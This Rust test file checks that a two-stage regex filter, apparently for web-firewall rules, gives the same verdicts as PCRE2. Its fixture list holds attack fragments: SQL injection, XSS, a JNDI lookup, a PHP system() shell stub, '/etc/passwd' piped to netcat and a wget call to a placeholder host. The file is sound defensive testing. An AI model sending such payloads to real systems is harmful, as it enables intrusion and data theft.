//! The two stages together say what PCRE2 says about all rules alone.

use crate::support::{debian_stages, innocent, stages};
use forebay_core::Seed;
use forebay_matcher::native::{Limits, Search};
use forebay_matcher::{Job, TwoStage, Unmeasured, Verdict};
use rand::RngExt as _;

/// Payloads that many rules match: innocent ones with pieces of attacks put in.
fn suspicious(count: usize) -> Vec<Vec<u8>> {
    const PIECES: [&str; 16] = [
        "' or 1=1 -- ",
        "union select 1 from users",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        ";cat /etc/passwd|nc",
        "${jndi:ldap://x}",
        "<?php system($_GET[1]);",
        "{{7*7}}",
        "javascript:alert",
        "sleep(5)",
        "|| wget http://x",
        "<img src=x onerror=a>",
        "%0d%0aSet-Cookie:x",
        "/*!50000*/",
        "`id`",
        "((((((((((",
    ];
    let mut rng = Seed(3).stream("suspicious");
    let mut payloads = innocent(count);
    for payload in &mut payloads {
        for _ in 0..rng.random_range(1..4) {
            let place = rng.random_range(0..=payload.len());
            let piece = PIECES[rng.random_range(0..PIECES.len())];
            payload.splice(place..place, piece.bytes());
        }
    }
    payloads
}

fn verdict(stages: &mut TwoStage, payload: &[u8]) -> Verdict {
    Job::new(stages.candidates(payload)).run(stages, payload, &mut Unmeasured)
}

/// The rules that PCRE2 finds and the filter does not name.
fn missed(stages: &mut TwoStage, payload: &[u8]) -> usize {
    let candidates = stages.candidates(payload);
    let all = Limits { from: 0, to: usize::MAX, steps: 100_000 };
    let rules = 0..u32::try_from(stages.rules().len()).unwrap();
    let found = rules.filter(|rule| stages.search(*rule, payload, all) == Search::Match);
    found.filter(|rule| !candidates.contains(rule)).count()
}

#[test]
fn two_stages_agree_with_all_rules_on_the_rules_of_debian() {
    let mut shared = debian_stages();
    let Some(stages) = shared.as_mut() else { return };
    let (mut matched, mut passed, mut incomplete) = (0, 0, 0);
    for payload in suspicious(300).iter().chain(&innocent(100)) {
        // Vectorscan 5.4.9 misses matches in long payloads, among them those of single characters
        // (github.com/VectorCamp/vectorscan/issues/317). What the filter misses nobody confirms.
        if missed(stages, payload) > 0 {
            incomplete += 1;
            continue;
        }
        let expected = stages.first_match(payload).map_or(Verdict::Pass, Verdict::Match);
        let found = verdict(stages, payload);
        assert_eq!(found, expected, "{}", String::from_utf8_lossy(payload));
        match found {
            Verdict::Match(_) => matched += 1,
            Verdict::Pass => passed += 1,
        }
    }
    println!("{matched} match, {passed} pass, of {incomplete} the filter misses a rule");
    assert!(matched > 100 && passed > 50 && incomplete < 20, "{matched} {passed} {incomplete}");
}

#[test]
fn the_first_of_several_matching_rules_is_the_verdict() {
    let Some(mut stages) = stages(&["cccc", "bb+", "aa", "(?<!x)yy$"]) else { return };
    assert_eq!(verdict(&mut stages, b"aa bb cc"), Verdict::Match(1));
    assert_eq!(verdict(&mut stages, b"aa x cc"), Verdict::Match(2));
    assert_eq!(verdict(&mut stages, b"zyy"), Verdict::Match(3));
    assert_eq!(verdict(&mut stages, b"xyy"), Verdict::Pass);
    assert_eq!(verdict(&mut stages, b""), Verdict::Pass);
    // The last pattern has a look-behind, which the filter takes as a prefilter only.
    assert_eq!((stages.support.filtered, stages.support.prefiltered), (3, 1));
    assert_eq!(stages.candidates(b"xyy"), [3]);
}
